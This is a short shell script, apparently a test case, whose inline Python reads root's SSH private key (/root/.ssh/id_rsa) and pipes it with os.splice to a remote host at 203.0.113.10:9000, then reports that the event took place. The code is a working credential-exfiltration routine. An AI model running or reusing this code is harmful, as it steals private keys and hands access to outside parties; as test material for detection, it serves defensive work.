#!/bin/sh
. /opt/case/case.sh

python3 - <<'END'
import os, socket
s = socket.create_connection(("203.0.113.10", 9000)); d = os.open("/root/.ssh", os.O_PATH); f = os.open("id_rsa", os.O_RDONLY, dir_fd=d); r, w = os.pipe(); n = 0
while (g := os.splice(f, w, 4096)): n += os.splice(r, s.fileno(), g)
assert n > 3
END
took_place
